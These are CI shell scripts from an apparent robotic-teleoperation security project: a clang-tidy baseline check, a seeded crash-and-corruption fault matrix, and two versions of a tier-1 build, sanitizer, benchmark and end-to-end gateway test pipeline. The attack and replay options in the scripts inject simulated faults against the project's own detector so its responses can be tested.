  echo "check_tidy: baseline rewritten ($(wc -l < "${BASELINE}") entries)"
  exit 0
fi

CURRENT="$(mktemp)"
trap 'rm -f "${CURRENT}"' EXIT
run_tidy > "${CURRENT}"

touch "${BASELINE}"
NEW="$(comm -13 <(sort -u "${BASELINE}") "${CURRENT}" || true)"
if [ -n "${NEW}" ]; then
  echo "check_tidy: new clang-tidy diagnostics (not in ${BASELINE}):" >&2
  echo "${NEW}" >&2
  exit 1
fi
echo "check_tidy: OK ($(wc -l < "${CURRENT}") diagnostics, all baselined)"
