#!/usr/bin/env bash
# Seeded crash/corruption matrix for the crash-consistent state plane
# (docs/persistence.md): every cell must recover EXACTLY (to a digest the
# durable history actually contained) or FAIL SAFE — a cell that loads
# corrupt state silently fails the run.
#
#   scripts/fault_matrix.sh                 # from the repo root
#   RG_FAULT_SEED=7 scripts/fault_matrix.sh # different (still deterministic) matrix
#
# The matrix, all derived from RG_FAULT_SEED:
#
#   kill cells      >=8 SIGKILL points: rg_faultinject generate _exit(137)s
#                   mid-stream, recovery must restore the exact durable
#                   prefix — cross-checked against an oracle run of the
#                   same seed truncated to the durable op count.
#   corruption      >=4 modes (truncate / bitflip / zeropage / duptail)
#   cells           x >=8 seeded offsets x {state.rgwal, state.rgsnap}:
#                   each cell must verify as restored-with-known-digest
#                   (the baseline's durable prefix digest set) or
#                   fail_safe.  "fresh" or an unknown digest = silent
#                   corruption = failure.
#   journal cells   damage to the safety journal must never affect store
#                   recovery (the journal is evidence, not state).
#
# Used standalone and as a tier-1 stage (scripts/tier1.sh).
set -euo pipefail
cd "$(dirname "$0")/.."

JOBS="${JOBS:-$(nproc)}"
SEED="${RG_FAULT_SEED:-20260807}"
OPS="${RG_FAULT_OPS:-4000}"
FLUSH_EVERY=40
WORK="${RG_FAULT_DIR:-build/fault-matrix}"
BIN=build/tools/rg_faultinject

cmake -B build -S . >/dev/null
cmake --build build -j "${JOBS}" --target rg_faultinject >/dev/null

rm -rf "${WORK}"
mkdir -p "${WORK}"

python3 - "${BIN}" "${WORK}" "${SEED}" "${OPS}" "${FLUSH_EVERY}" <<'PY'
import json, os, random, shutil, subprocess, sys

bin_path, work, seed, ops, flush_every = (
    sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]))
rng = random.Random(seed)
failures = []
cells = 0


def run(*args, expect=0):
    proc = subprocess.run([bin_path, *map(str, args)], capture_output=True, text=True)
    if proc.returncode != expect:
        raise RuntimeError(
            f"{' '.join(map(str, args))}: exit {proc.returncode} (wanted {expect})\n"
            f"{proc.stderr}")
    return proc.stdout


def generate(d, *, kill_at=None, n_ops=ops):
    args = ["generate", "--dir", d, "--seed", seed, "--ops", n_ops,
            "--flush-every", flush_every]
    if kill_at is not None:
        return run(*args, "--kill-at", kill_at, expect=137)
    return json.loads(run(*args))


def verify(d):
    return json.loads(run("verify", "--dir", d))


def clone(src, dst):
    shutil.rmtree(dst, ignore_errors=True)
    shutil.copytree(src, dst)


def cell(name, ok, detail):
    global cells
    cells += 1
    if not ok:
        failures.append(f"{name}: {detail}")
        print(f"FAIL {name}: {detail}")


# ---- baseline: a clean run (with snapshot rotations) must verify exactly.
base = os.path.join(work, "baseline")
base_gen = generate(base)
base_ver = verify(base)
cell("baseline", base_ver["outcome"] == "restored"
     and base_ver["digest"] == base_gen["final_digest"]
     and base_ver["snapshot_loaded"] and base_gen["snapshots"] >= 1,
     f"gen={base_gen} ver={base_ver}")
prefixes = set(base_ver["prefix_digests"])
assert len(prefixes) >= 8, "baseline produced too little durable history"

# ---- kill cells: SIGKILL after op K; recovery must equal the oracle ----
# generate flushes after op i when (i+1) % F == 0 and dies *before* the
# flush check of op K, so the durable op count is F * floor(K / F).
kill_points = sorted(rng.sample(range(flush_every, ops - 1), 8))
for k in kill_points:
    d = os.path.join(work, f"kill_{k}")
    shutil.rmtree(d, ignore_errors=True)
    generate(d, kill_at=k)
    ver = verify(d)
    durable_ops = flush_every * (k // flush_every)
    oracle_dir = os.path.join(work, f"oracle_{durable_ops}")
    if not os.path.isdir(oracle_dir):
        oracle = generate(oracle_dir, n_ops=durable_ops)
        with open(os.path.join(oracle_dir, "digest.json"), "w") as f:
            json.dump(oracle, f)
    with open(os.path.join(oracle_dir, "digest.json")) as f:
        oracle = json.load(f)
    cell(f"kill@{k}", ver["outcome"] == "restored"
         and ver["digest"] == oracle["final_digest"],
         f"verify={ver['outcome']}/{ver['reason']} digest={ver['digest']} "
         f"oracle({durable_ops} ops)={oracle['final_digest']}")

# ---- corruption cells: 4 modes x 8 seeded offsets x both artifacts ----
MODES = ["truncate", "bitflip", "zeropage", "duptail"]
for fname in ("state.rgwal", "state.rgsnap"):
    size = os.path.getsize(os.path.join(base, fname))
    assert size > 0, f"baseline {fname} is empty"
    for mode in MODES:
        # Seeded interior offsets plus the structural edges (head, tail).
        offsets = sorted({0, size - 1, *(rng.randrange(size) for _ in range(6))})
        for off in offsets:
            name = f"{fname}:{mode}@{off}"
            d = os.path.join(work, "cell")
            clone(base, d)
            run("corrupt", "--file", os.path.join(d, fname),
                "--mode", mode, "--offset", off)
            ver = verify(d)
            if ver["outcome"] == "fail_safe":
                ok, detail = bool(ver["reason"]), f"fail_safe without a reason: {ver}"
            elif ver["outcome"] == "restored":
                ok = ver["digest"] in prefixes
                detail = (f"SILENT CORRUPT LOAD: digest {ver['digest']} is not in the "
                          f"baseline's {len(prefixes)} durable prefixes")
            else:
                ok, detail = False, f"outcome {ver['outcome']} (history lost silently)"
            cell(name, ok, detail)

# ---- journal cells: journal damage never perturbs store recovery ----
jf = "journal.rgjrnl"
jsize = os.path.getsize(os.path.join(base, jf))
for mode, off in [("truncate", rng.randrange(64, 4096)),
                  ("bitflip", rng.randrange(jsize)),
                  ("zeropage", rng.randrange(4096)),
                  ("duptail", 0)]:
    name = f"{jf}:{mode}@{off}"
    d = os.path.join(work, "cell")
    clone(base, d)
    run("corrupt", "--file", os.path.join(d, jf), "--mode", mode, "--offset", off)
    ver = verify(d)
    cell(name, ver["outcome"] == "restored" and ver["digest"] == base_ver["digest"],
         f"store recovery changed: {ver['outcome']}/{ver['reason']} {ver['digest']}")

print(f"fault matrix: {cells} cells, {len(failures)} failures "
      f"(seed {seed}, {len(kill_points)} kill points, {len(MODES)} corruption modes)")
if failures:
    sys.exit(f"{len(failures)} cell(s) loaded corrupt state or lost history")
PY

echo "fault matrix OK (${WORK})"
