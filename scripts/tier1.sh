#!/usr/bin/env bash
# Tier-1 verification: the standard build + full test suite, plus a
# ThreadSanitizer pass over the concurrency-sensitive tests and an
# end-to-end check of the CLI's telemetry outputs.
#
#   scripts/tier1.sh            # from the repo root
#
# Stage 1 is the canonical tier-1 command from ROADMAP.md.  Stage 2
# rebuilds with -DRG_SANITIZE=thread and runs the Campaign.* tests (the
# worker pool), Obs.* tests (the lock-free metrics shards), the
# batch-equivalence suites (BatchDynamics/BatchPlant/BatchCampaign — the
# lane-parallel campaign path), the SpscRing.* tests (the lock-free
# shard handoff ring) and the Gateway.* tests (sharded session
# multiplexing) under TSan, so data races fail CI rather than flaking.
# Stage 3 rebuilds with -DRG_SANITIZE=address,undefined and runs the
# FULL unit suite, so heap errors and UB fail CI even when they do not
# crash an uninstrumented build.  Stage 4 runs a small armed sweep with
# --metrics-out/--trace-out/--events-out and validates every artifact:
# the report (rg.campaign.report/2), the metrics snapshot, the Chrome
# trace, and the safety-event JSONL (which must contain at least one
# detector alarm and one mitigation).  Stage 5 runs the dynamics-kernel
# microbench at a tiny scale and schema-validates BENCH_dynamics.json.
# Stage 6 exercises the teleoperation gateway service end to end: the
# capacity bench at a tiny scale (schema rg.bench.gateway/2, including
# the binary-searched capacity section and the rx_batch sweep), a
# real-socket run — raven_gateway on an ephemeral loopback port driven
# by a multi-threaded sendmmsg-batched itp_loadgen — whose stats JSON
# must balance, and a paced 200-session capacity probe that must be
# absorbed with zero backpressure.  Stage 7 runs the
# static-analysis gates (docs/static-analysis.md): rg_lint (real-time,
# thread-role, determinism, metric-registry, cast, ErrorCode, and
# waiver-hygiene contracts) must emit a clean "rg.lint.report/1" JSON
# document inside a 5 s runtime budget, every public header must compile
# standalone (rg_header_checks), and the clang-format / clang-tidy /
# clang -Wthread-safety gates run when those tools are installed.  Stage 8 verifies streaming
# calibration (docs/thresholds.md): bench_calibration's budget and
# agreement gates (schema rg.bench.calibration/1), the epoch
# commit/history/rollback lifecycle through the CLI, and a live
# drift-alarm pass — raven_gateway --calibrate against a committed epoch
# with a forced drift ratio, driven by itp_loadgen, must raise
# rg.cal.drift_alarms and emit cal_drift events.  Stage 9 exercises the
# live telemetry plane (docs/admin.md): bench_obs_overhead's
# snapshot-under-writers gate (BENCH_obs.json "pass"), then a real
# gateway with --admin-port driven by itp_loadgen — /healthz must answer
# ok, /metrics must parse as Prometheus text and contain the gateway's
# canonical counters, and raven_top --once must render a session table.
# Stage 10 proves the crash-consistent state plane (docs/persistence.md):
# the seeded fault matrix (scripts/fault_matrix.sh) — SIGKILL points and
# four corruption modes, every cell recover-exact-or-fail-safe — then a
# real-socket SIGKILL/restart/rejoin pass where the restored gateway
# must reject every replayed pre-kill datagram and resume the sessions.
set -euo pipefail
cd "$(dirname "$0")/.."

JOBS="${JOBS:-$(nproc)}"

echo "== tier-1 stage 1: standard build + full ctest =="
cmake -B build -S . >/dev/null
cmake --build build -j "${JOBS}"
(cd build && ctest --output-on-failure -j "${JOBS}")

echo "== tier-1 stage 2: ThreadSanitizer campaign + obs + batch tests =="
cmake -B build-tsan -S . -DRG_SANITIZE=thread >/dev/null
cmake --build build-tsan -j "${JOBS}" --target test_campaign test_obs test_batch_dynamics test_spsc_ring test_gateway test_exposition test_admin
(cd build-tsan && ctest --output-on-failure -R '^(Campaign|Obs|BatchDynamics|BatchPlant|BatchCampaign|EstimatorSolves|SpscRing|Gateway|GatewaySocket|Exposition|Admin)\.')

echo "== tier-1 stage 3: ASan+UBSan full unit suite =="
cmake -B build-asan -S . -DRG_SANITIZE=address,undefined >/dev/null
cmake --build build-asan -j "${JOBS}"
(cd build-asan && ctest --output-on-failure -j "${JOBS}")

echo "== tier-1 stage 4: CLI telemetry artifacts =="
cmake --build build -j "${JOBS}" --target raven_guard_cli
TDIR=build/telemetry-check
rm -rf "${TDIR}"
mkdir -p "${TDIR}"
CLI=build/tools/raven_guard_cli
"${CLI}" learn --runs 8 --seed 42 --out "${TDIR}/thresholds.txt" >/dev/null
"${CLI}" sweep --runs 1 --seed 42 --attack torque --mitigate \
  --thresholds "${TDIR}/thresholds.txt" \
  --json "${TDIR}/report.json" \
  --metrics-out "${TDIR}/metrics.json" \
  --trace-out "${TDIR}/trace.json" \
  --events-out "${TDIR}/events.jsonl" >/dev/null

# Every artifact must be valid JSON (the event log line-by-line: JSONL).
python3 -m json.tool "${TDIR}/report.json" >/dev/null
python3 -m json.tool "${TDIR}/metrics.json" >/dev/null
python3 -m json.tool "${TDIR}/trace.json" >/dev/null
python3 - "${TDIR}/events.jsonl" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    lines = [line for line in f if line.strip()]
for n, line in enumerate(lines, 1):
    try:
        json.loads(line)
    except json.JSONDecodeError as e:
        sys.exit(f"events.jsonl line {n} is not valid JSON: {e}")
assert len(lines) >= 2, "events.jsonl is missing the header or any events"
PY

# And carry the expected content.
grep -q '"schema": "rg.campaign.report/2"' "${TDIR}/report.json"
grep -q '"timing"' "${TDIR}/report.json"
grep -q '"rg.span.control.tick"' "${TDIR}/metrics.json"
grep -q '"rg.span.estimator.solve"' "${TDIR}/metrics.json"
grep -q '"rg.span.pipeline.process"' "${TDIR}/metrics.json"
grep -q '"p99"' "${TDIR}/metrics.json"
grep -q '"traceEvents"' "${TDIR}/trace.json"
grep -q '"schema": "rg.events/1"' "${TDIR}/events.jsonl"
grep -q '"kind": "detector_alarm"' "${TDIR}/events.jsonl"
grep -q '"kind": "mitigation"' "${TDIR}/events.jsonl"
grep -q '"kind": "flight_dump"' "${TDIR}/events.jsonl"
echo "telemetry artifacts OK (${TDIR})"

echo "== tier-1 stage 5: dynamics kernel bench schema =="
cmake --build build -j "${JOBS}" --target bench_dynamics_kernel
RG_SCALE=0.02 RG_BENCH_DYNAMICS_JSON="${TDIR}/bench_dynamics.json" \
  ./build/bench/bench_dynamics_kernel >/dev/null
python3 - "${TDIR}/bench_dynamics.json" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    doc = json.load(f)
assert doc["schema"] == "rg.bench.dynamics/1", doc.get("schema")
assert doc["lanes"] >= 2, doc.get("lanes")
kernels = {row["kernel"] for row in doc["kernels"]}
assert {"derivative", "step_rk4", "campaign"} <= kernels, kernels
for row in doc["kernels"]:
    assert row["evals"] > 0
    assert row["scalar_evals_per_sec"] > 0.0
    assert row["batched_evals_per_sec"] > 0.0
    assert row["speedup"] > 0.0
PY
echo "bench schema OK (${TDIR}/bench_dynamics.json)"

echo "== tier-1 stage 6: gateway service end-to-end =="
cmake --build build -j "${JOBS}" --target raven_gateway itp_loadgen bench_gateway

RG_SCALE=0.02 RG_BENCH_GATEWAY_JSON="${TDIR}/bench_gateway.json" \
  ./build/bench/bench_gateway >/dev/null
python3 - "${TDIR}/bench_gateway.json" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    doc = json.load(f)
assert doc["schema"] == "rg.bench.gateway/2", doc.get("schema")
assert doc["shards"] >= 1
assert "sessions_sustained" in doc
assert "p50_ingest_to_verdict_ns" in doc
assert "p99_ingest_to_verdict_ns" in doc
# Capacity search: the headline must be a sustained probe with zero
# ring-full refusals, and every probe row must carry the ring counter.
cap = doc["capacity"]
assert cap["max_sessions_sustained"] >= 1, cap
assert cap["ring_full"] == 0, cap
assert len(cap["probes"]) >= 1
for row in cap["probes"]:
    assert "ring_full" in row and "rx_batch" in row
# Batch sweep: rx_batch 1/8/64 at the capacity point.
assert [row["rx_batch"] for row in doc["batch_sweep"]] == [1, 8, 64]
# Persistence overhead section: the state plane must have journaled the
# run without a single tick-path drop (the <2% acceptance is measured at
# full scale; smoke runs only prove the plumbing).
per = doc["persist"]
assert per["ops_submitted"] > 0 and per["ops_dropped"] == 0, per
assert "overhead_pct" in per and "wal_records" in per
assert len(doc["rows"]) >= 1
for row in doc["rows"]:
    assert row["accepted"] > 0
    assert row["realtime_ratio"] > 0.0
PY
echo "gateway bench schema OK (${TDIR}/bench_gateway.json)"

# Real sockets: gateway on an ephemeral loopback port with batched
# recvmmsg ingest, driven by a multi-threaded loadgen coalescing ticks
# into sendmmsg bursts.
./build/tools/raven_gateway --port 0 --shards 2 --duration 15 --rx-batch 32 \
  --port-file "${TDIR}/gateway.port" --stats-out "${TDIR}/gateway_stats.json" &
GW_PID=$!
trap 'kill "${GW_PID}" 2>/dev/null || true' EXIT
for _ in $(seq 1 50); do
  [ -s "${TDIR}/gateway.port" ] && break
  sleep 0.1
done
PORT="$(cat "${TDIR}/gateway.port")"
./build/tools/itp_loadgen --port "${PORT}" --sessions 8 --threads 2 --batch 16 \
  --duration 1 --burst --attack-mix 0.05 --out "${TDIR}/loadgen.json" >/dev/null
sleep 0.5
kill -INT "${GW_PID}"
wait "${GW_PID}"
trap - EXIT
python3 - "${TDIR}/gateway_stats.json" "${TDIR}/loadgen.json" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    stats = json.load(f)
with open(sys.argv[2]) as f:
    load = json.load(f)
assert stats["schema"] == "rg.gateway.stats/1", stats.get("schema")
assert load["schema"] == "rg.loadgen/1", load.get("schema")
assert load["batch"] == 16 and "late_sends" in load and "max_late_ns" in load
rejected = sum(stats[k] for k in stats if k.startswith("rejected_"))
assert stats["datagrams"] == stats["accepted"] + rejected + stats["backpressure_dropped"]
assert stats["accepted"] > 0
assert stats["sessions_opened"] == load["sessions"] == 8
# Attacked datagrams (replays/flips/garbled flags) must show up as
# rejections, and every accepted datagram became a control tick.
assert rejected > 0
ticks = sum(s["ticks"] for s in stats["sessions"])
assert ticks == stats["accepted"], (ticks, stats["accepted"])
PY
echo "gateway socket end-to-end OK (${TDIR}/gateway_stats.json)"

# Short capacity probe through real sockets: a paced 200-session load at
# 100 Hz must be absorbed with zero backpressure and its sessions all
# admitted — the socket-path sanity check behind the loopback capacity
# number in BENCH_gateway.json.
./build/tools/raven_gateway --port 0 --shards 4 --duration 20 --rx-batch 64 \
  --max-sessions 256 --idle-timeout-ms 60000 \
  --port-file "${TDIR}/cap_gateway.port" --stats-out "${TDIR}/cap_gateway_stats.json" &
GW_PID=$!
trap 'kill "${GW_PID}" 2>/dev/null || true' EXIT
for _ in $(seq 1 50); do
  [ -s "${TDIR}/cap_gateway.port" ] && break
  sleep 0.1
done
PORT="$(cat "${TDIR}/cap_gateway.port")"
./build/tools/itp_loadgen --port "${PORT}" --sessions 200 --threads 4 --batch 8 \
  --rate 100 --duration 2 --out "${TDIR}/cap_loadgen.json" >/dev/null
sleep 0.5
kill -INT "${GW_PID}"
wait "${GW_PID}"
trap - EXIT
python3 - "${TDIR}/cap_gateway_stats.json" "${TDIR}/cap_loadgen.json" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    stats = json.load(f)
with open(sys.argv[2]) as f:
    load = json.load(f)
assert stats["sessions_opened"] == load["sessions"] == 200
assert stats["backpressure_dropped"] == 0, stats["backpressure_dropped"]
assert stats["accepted"] > 0
assert load["send_errors"] == 0, load["send_errors"]
PY
echo "gateway capacity probe OK (${TDIR}/cap_gateway_stats.json)"

echo "== tier-1 stage 7: static-analysis gates =="
cmake --build build -j "${JOBS}" --target rg_lint rg_header_checks
LINT_START="$(date +%s.%N)"
./build/tools/rg_lint/rg_lint --root . --quiet --json "${TDIR}/lint_report.json"
LINT_END="$(date +%s.%N)"
python3 - "${TDIR}/lint_report.json" "${LINT_START}" "${LINT_END}" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    doc = json.load(f)
assert doc["schema"] == "rg.lint.report/1", doc.get("schema")
assert doc["total"] == 0 and doc["findings"] == [], doc["findings"][:5]
counts = doc["counts"]
expected = {"alloc", "lock", "io", "throw", "block", "push_back", "call", "cast",
            "metric", "errorcode", "thread_role", "nondet", "stale_waiver"}
assert set(counts) == expected, sorted(counts)
assert all(v == 0 for v in counts.values()), counts
# The scan covered the tree and its contract annotations...
assert doc["files_scanned"] > 150, doc["files_scanned"]
assert doc["realtime_functions"] > 150, doc["realtime_functions"]
assert doc["thread_role_functions"] > 40, doc["thread_role_functions"]
assert doc["deterministic_functions"] > 20, doc["deterministic_functions"]
# ...inside the lint-runtime budget (the gate must stay cheap enough to
# run on every commit).
elapsed = float(sys.argv[3]) - float(sys.argv[2])
assert elapsed < 5.0, f"rg_lint runtime budget blown: {elapsed:.2f}s"
print(f"rg_lint: clean ({doc['files_scanned']} files, "
      f"{doc['thread_role_functions']} thread-role / "
      f"{doc['deterministic_functions']} deterministic functions, {elapsed:.2f}s)")
PY
scripts/check_format.sh
scripts/check_tidy.sh
scripts/check_thread_safety.sh

echo "== tier-1 stage 8: streaming calibration =="
cmake --build build -j "${JOBS}" --target bench_calibration raven_guard_cli raven_gateway itp_loadgen

RG_BENCH_CALIBRATION_JSON="${TDIR}/bench_calibration.json" \
  ./build/bench/bench_calibration >/dev/null
python3 - "${TDIR}/bench_calibration.json" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    doc = json.load(f)
assert doc["schema"] == "rg.bench.calibration/1", doc.get("schema")
assert doc["pass"] is True
assert doc["exact_max_abs_diff"] == 0.0, doc["exact_max_abs_diff"]
assert doc["estimator_rel_error"] <= doc["estimator_epsilon"]
for phase in ("observe_exact_ns", "observe_estimator_ns"):
    assert doc[phase]["samples"] > 0
    assert doc[phase]["p99"] <= doc["observe_budget_ns"], (phase, doc[phase])
assert doc["observe_budget_ns"] < doc["tick_budget_ns"]
PY
echo "calibration bench schema OK (${TDIR}/bench_calibration.json)"

# Epoch lifecycle through the CLI: two commits, history, rollback.
EPOCHS="${TDIR}/cal_epochs.txt"
rm -f "${EPOCHS}"
"${CLI}" learn --runs 4 --seed 41 --out "${EPOCHS}" >/dev/null
"${CLI}" learn --runs 4 --seed 43 --thresholds-margin 1.2 --out "${EPOCHS}" >/dev/null
"${CLI}" thresholds --file "${EPOCHS}" --history | grep -q "epoch 1.*\[active\]"
"${CLI}" thresholds --file "${EPOCHS}" --rollback 0 >/dev/null
"${CLI}" thresholds --file "${EPOCHS}" | grep -q "epoch 0.*\[active\]"

# Live drift alarms: serve the committed epoch with a drift ratio no real
# session can stay under, drive real traffic, and expect latched alarms.
./build/tools/raven_gateway --port 0 --shards 2 --duration 15 \
  --calibrate --thresholds "${EPOCHS}" \
  --drift-ratio 0.000001 --drift-min-samples 32 \
  --port-file "${TDIR}/cal_gateway.port" \
  --stats-out "${TDIR}/cal_gateway_stats.json" \
  --events-out "${TDIR}/cal_events.jsonl" &
GW_PID=$!
trap 'kill "${GW_PID}" 2>/dev/null || true' EXIT
for _ in $(seq 1 50); do
  [ -s "${TDIR}/cal_gateway.port" ] && break
  sleep 0.1
done
PORT="$(cat "${TDIR}/cal_gateway.port")"
./build/tools/itp_loadgen --port "${PORT}" --sessions 4 --duration 1 \
  --burst --out "${TDIR}/cal_loadgen.json" >/dev/null
sleep 0.5
kill -INT "${GW_PID}"
wait "${GW_PID}"
trap - EXIT
python3 - "${TDIR}/cal_gateway_stats.json" "${TDIR}/cal_events.jsonl" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    stats = json.load(f)
assert stats["schema"] == "rg.gateway.stats/1", stats.get("schema")
assert stats["drift_checks"] > 0, stats["drift_checks"]
assert stats["drift_alarms"] > 0, stats["drift_alarms"]
# Latched: at most one alarm per session ever admitted.
assert stats["drift_alarms"] <= stats["sessions_opened"]
with open(sys.argv[2]) as f:
    events = [json.loads(line) for line in f if line.strip()]
drifts = [e for e in events if e.get("kind") == "cal_drift"]
assert len(drifts) == stats["drift_alarms"], (len(drifts), stats["drift_alarms"])
for e in drifts:
    assert e["ratio"] > 0.000001
    assert e["samples"] >= 32
PY
echo "drift-alarm end-to-end OK (${TDIR}/cal_gateway_stats.json)"

echo "== tier-1 stage 9: live telemetry plane =="
cmake --build build -j "${JOBS}" --target bench_obs_overhead raven_gateway itp_loadgen raven_top

RG_SCALE=0.02 RG_BENCH_OBS_JSON="${TDIR}/bench_obs.json" \
  ./build/bench/bench_obs_overhead >/dev/null
python3 - "${TDIR}/bench_obs.json" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    doc = json.load(f)
assert doc["schema"] == "rg.bench.obs/2", doc.get("schema")
sw = doc["snapshot_under_writers"]
assert sw["writers"] == 8 and sw["samples"] > 0, sw
assert sw["p99_ns"] <= doc["snapshot_budget_ns"], sw
assert doc["pass"] is True
PY
echo "snapshot-under-writers gate OK (${TDIR}/bench_obs.json)"

# Real sockets: gateway with a live admin endpoint, loadgen drives it,
# then the admin plane is asserted while sessions are still active.
./build/tools/raven_gateway --port 0 --shards 2 --duration 20 \
  --idle-timeout-ms 60000 \
  --port-file "${TDIR}/adm_gateway.port" \
  --admin-port 0 --admin-port-file "${TDIR}/adm_admin.port" &
GW_PID=$!
trap 'kill "${GW_PID}" 2>/dev/null || true' EXIT
for _ in $(seq 1 50); do
  [ -s "${TDIR}/adm_gateway.port" ] && [ -s "${TDIR}/adm_admin.port" ] && break
  sleep 0.1
done
PORT="$(cat "${TDIR}/adm_gateway.port")"
APORT="$(cat "${TDIR}/adm_admin.port")"
./build/tools/itp_loadgen --port "${PORT}" --sessions 4 --rate 500 --duration 1 >/dev/null
python3 - "${APORT}" <<'PY'
import json, sys, urllib.request
port = sys.argv[1]
def get(path):
    with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=5) as rsp:
        return rsp.read().decode()
assert get("/healthz").strip() == "ok"
assert get("/readyz").strip() == "ready"
metrics = get("/metrics")
# Prometheus text with the canonical dotted names in the HELP lines.
assert "# HELP rg_gw_rx_packets rg.gw.rx_packets" in metrics, metrics[:400]
assert "rg_gw_pump_jitter_ns_bucket" in metrics
for line in metrics.splitlines():
    assert line.startswith("#") or " " in line, line
stats = json.loads(get("/stats"))
assert stats["schema"] == "rg.admin.stats/1", stats.get("schema")
assert stats["captured"] is True
assert len(stats["sessions"]) == 4, len(stats["sessions"])
live = json.loads(get("/metrics.json"))
assert live["schema"] == "rg.metrics.live/1", live.get("schema")
assert any(c["name"] == "rg.gw.rx_packets" and c["value"] > 0 for c in live["counters"])
PY
TOP_OUT="$(./build/tools/raven_top --port "${APORT}" --once --plain)"
echo "${TOP_OUT}" | grep -q "raven_top"
echo "${TOP_OUT}" | grep -q "active"   # at least one session row rendered
kill -INT "${GW_PID}"
wait "${GW_PID}"
trap - EXIT
echo "admin plane end-to-end OK (port ${APORT})"

echo "== tier-1 stage 10: crash-consistent state plane =="
# Seeded crash/corruption matrix: every cell must recover exactly or
# fail safe (docs/persistence.md).
scripts/fault_matrix.sh

# Real-socket SIGKILL/restart/rejoin: a gateway with --state-dir is
# killed -9 mid-load, restarted on the same port and state directory,
# and the loadgen's rejoin mode replays its pre-kill datagrams — the
# restored anti-replay windows must reject every one while fresh
# traffic (past the rejoin guard) is accepted into the restored
# sessions.
cmake --build build -j "${JOBS}" --target raven_gateway itp_loadgen
PDIR="${TDIR}/persist-e2e"
rm -rf "${PDIR}"
mkdir -p "${PDIR}"
./build/tools/raven_gateway --port 0 --shards 2 --duration 30 --idle-timeout-ms 60000 \
  --state-dir "${PDIR}/state" --port-file "${PDIR}/gw.port" &
GW_PID=$!
trap 'kill -9 "${GW_PID}" 2>/dev/null || true' EXIT
for _ in $(seq 1 50); do
  [ -s "${PDIR}/gw.port" ] && break
  sleep 0.1
done
PORT="$(cat "${PDIR}/gw.port")"
./build/tools/itp_loadgen --port "${PORT}" --sessions 4 --rate 1000 --duration 3 \
  --rejoin-at 800 --rejoin-pause-ms 1500 --rejoin-replay 32 --rejoin-skip 512 \
  --out "${PDIR}/loadgen.json" >/dev/null &
LG_PID=$!
sleep 1.2   # pre-pause traffic is flowing; kill inside the pause window
kill -9 "${GW_PID}"
wait "${GW_PID}" 2>/dev/null || true
./build/tools/raven_gateway --port "${PORT}" --shards 2 --duration 30 --idle-timeout-ms 60000 \
  --state-dir "${PDIR}/state" --stats-out "${PDIR}/stats.json" &
GW_PID=$!
wait "${LG_PID}"
sleep 0.5
kill -INT "${GW_PID}"
wait "${GW_PID}"
trap - EXIT
python3 - "${PDIR}/stats.json" "${PDIR}/loadgen.json" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    stats = json.load(f)
with open(sys.argv[2]) as f:
    load = json.load(f)
# The restarted gateway recovered the crash state exactly...
assert stats["persist"]["outcome"] == "restored", stats["persist"]
assert stats["sessions_restored"] == load["sessions"] == 4, stats["sessions_restored"]
assert stats["sessions_opened"] == 0, stats["sessions_opened"]  # no re-admission
assert stats["persist"]["ops_dropped"] == 0, stats["persist"]
# ...rejected every replayed pre-kill datagram (restored window + guard)...
replayed = load["rejoin_replayed"]
assert replayed >= 4 * 32, replayed
assert stats["rejected_stale"] + stats["rejected_replayed"] >= replayed, stats
# ...and accepted the fresh post-guard traffic into the restored sessions.
assert stats["accepted"] > 0
ticks = sum(s["ticks"] for s in stats["sessions"])
assert ticks == stats["accepted"], (ticks, stats["accepted"])
PY
echo "state-plane SIGKILL/rejoin end-to-end OK (${PDIR})"

echo "tier-1: all stages passed"
