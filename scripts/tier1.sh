#!/usr/bin/env bash
# Tier-1 verification: the standard build + full test suite, plus a
# ThreadSanitizer pass over the concurrency-sensitive tests and an
# end-to-end check of the CLI's telemetry outputs.
#
#   scripts/tier1.sh            # from the repo root
#
# Stage 1 is the canonical tier-1 command from ROADMAP.md.  Stage 2
# rebuilds with -DRG_SANITIZE=thread and runs the Campaign.* tests (the
# worker pool), Obs.* tests (the lock-free metrics shards), and the
# batch-equivalence suites (BatchDynamics/BatchPlant/BatchCampaign — the
# lane-parallel campaign path) under TSan, so data races fail CI rather
# than flaking.  Stage 3 runs a small armed sweep with
# --metrics-out/--trace-out/--events-out and validates every artifact:
# the report (rg.campaign.report/2), the metrics snapshot, the Chrome
# trace, and the safety-event JSONL (which must contain at least one
# detector alarm and one mitigation).  Stage 4 runs the dynamics-kernel
# microbench at a tiny scale and schema-validates BENCH_dynamics.json.
set -euo pipefail
cd "$(dirname "$0")/.."

JOBS="${JOBS:-$(nproc)}"

echo "== tier-1 stage 1: standard build + full ctest =="
cmake -B build -S . >/dev/null
cmake --build build -j "${JOBS}"
(cd build && ctest --output-on-failure -j "${JOBS}")

echo "== tier-1 stage 2: ThreadSanitizer campaign + obs + batch tests =="
cmake -B build-tsan -S . -DRG_SANITIZE=thread >/dev/null
cmake --build build-tsan -j "${JOBS}" --target test_campaign test_obs test_batch_dynamics
(cd build-tsan && ctest --output-on-failure -R '^(Campaign|Obs|BatchDynamics|BatchPlant|BatchCampaign|EstimatorSolves)\.')

echo "== tier-1 stage 3: CLI telemetry artifacts =="
cmake --build build -j "${JOBS}" --target raven_guard_cli
TDIR=build/telemetry-check
rm -rf "${TDIR}"
mkdir -p "${TDIR}"
CLI=build/tools/raven_guard_cli
"${CLI}" learn --runs 8 --seed 42 --out "${TDIR}/thresholds.txt" >/dev/null
"${CLI}" sweep --runs 1 --seed 42 --attack torque --mitigate \
  --thresholds "${TDIR}/thresholds.txt" \
  --json "${TDIR}/report.json" \
  --metrics-out "${TDIR}/metrics.json" \
  --trace-out "${TDIR}/trace.json" \
  --events-out "${TDIR}/events.jsonl" >/dev/null

# Every artifact must be valid JSON (the event log line-by-line: JSONL).
python3 -m json.tool "${TDIR}/report.json" >/dev/null
python3 -m json.tool "${TDIR}/metrics.json" >/dev/null
